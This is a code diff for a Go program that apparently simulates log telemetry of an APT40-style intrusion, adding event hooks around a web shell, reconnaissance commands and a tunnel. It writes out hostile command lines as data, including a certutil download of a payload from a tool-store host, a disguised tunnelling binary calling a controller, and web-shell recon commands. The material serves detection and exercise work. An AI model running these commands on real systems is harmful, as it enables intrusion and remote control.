@@ -19,6 +19,7 @@ const (
 // on APT40: a web application, a web shell, credentials, the network behind
 // it, the mail, the directory, and the logs at last.
 func (w *world) intrusion() {
+	w.probed(at(1, 22, 31, 0))
 	w.webShell(at(2, 1, 42, 0))
 	w.tunnel(at(2, 2, 4, 0))
 	w.webServerCredentials(at(2, 2, 21, 0))
@@ -36,7 +37,9 @@ func (w *world) intrusion() {
 // the server runs commands for whoever asks it.
 func (w *world) webShell(t time.Time) {
 	p := w.worker()
+	w.uploaded(t.Add(-time.Second))
 	w.fileCreated(w.web, t, p, webRoot+`uploads\chart.aspx`)
+	w.asked(t.Add(10 * time.Second))
 	w.start(w.web, t.Add(11*time.Second), p, pool, p.logon, compilerExe, `"csc.exe" /noconfig /fullpaths @"`+pageCache+`chart.cmdline"`, `c:\windows\system32\inetsrv\`)
 	w.commands(w.web, t.Add(13*time.Second), p, pool, p.logon, []command{
 		{"whoami", "whoami /all"}, {"hostname", "hostname"}, {"ipconfig", "ipconfig /all"}, {"systeminfo", "systeminfo"}, {"tasklist", "tasklist /svc"},
@@ -50,6 +53,9 @@ type command struct{ program, line string }
 // commands runs lines through cmd.exe, each in its own shell, as web shells do.
 func (w *world) commands(h *host, t time.Time, parent process, u user, logon uint64, lines []command) {
 	for _, c := range lines {
+		if parent.image == w3wpExe {
+			w.asked(t.Add(-time.Second))
+		}
 		shell := w.start(h, t, parent, u, logon, cmdExe, `"cmd.exe" /c `+c.line, `c:\windows\system32\inetsrv\`)
 		w.start(h, t.Add(90*time.Millisecond), shell, u, logon, `C:\Windows\System32\`+c.program+`.exe`, c.line, `c:\windows\system32\inetsrv\`)
 		t = t.Add(8*time.Second + w.jitter(14))
@@ -60,14 +66,18 @@ func (w *world) commands(h *host, t time.Time, parent process, u user, logon uin
 // for days.
 func (w *world) tunnel(t time.Time) {
 	p := w.worker()
+	w.asked(t.Add(-time.Second))
 	shell := w.start(w.web, t, p, pool, p.logon, cmdExe, `"cmd.exe" /c certutil -urlcache -split -f https://`+toolStore+`/lib.txt `+publicFolder+`svchosts.exe`, `c:\windows\system32\inetsrv\`)
 	fetch := w.start(w.web, t.Add(100*time.Millisecond), shell, pool, p.logon, `C:\Windows\System32\certutil.exe`, `certutil -urlcache -split -f https://`+toolStore+`/lib.txt `+publicFolder+`svchosts.exe`, `c:\windows\system32\inetsrv\`)
 	w.connected(w.web, t.Add(time.Second), fetch, toolStore, "-", 443)
 	w.fileCreated(w.web, t.Add(3*time.Second), fetch, publicFolder+`svchosts.exe`)
+	w.asked(t.Add(79 * time.Second))
 	w.fileCreated(w.web, t.Add(80*time.Second), p, publicFolder+`nethelp.exe`)
+	w.asked(t.Add(2*time.Minute - time.Second))
 	funnel := w.start(w.web, t.Add(2*time.Minute), p, pool, p.logon, publicFolder+`svchosts.exe`, publicFolder+`svchosts.exe -D 10800 -p 443 `+controller, publicFolder)
-	for _, later := range []time.Duration{0, 41 * time.Minute, 22*time.Hour + 50*time.Minute, 24 * time.Hour, 46*time.Hour + 33*time.Minute, 49 * time.Hour} {
-		w.connected(w.web, t.Add(2*time.Minute+time.Second+later), funnel, controller, "-", 443)
+	w.funnelled(t.Add(2*time.Minute + time.Second))
+	for _, s := range tunnelSessions {
+		w.connected(w.web, t.Add(2*time.Minute+time.Second+s.after), funnel, controller, "-", 443)
 	}
 }
 
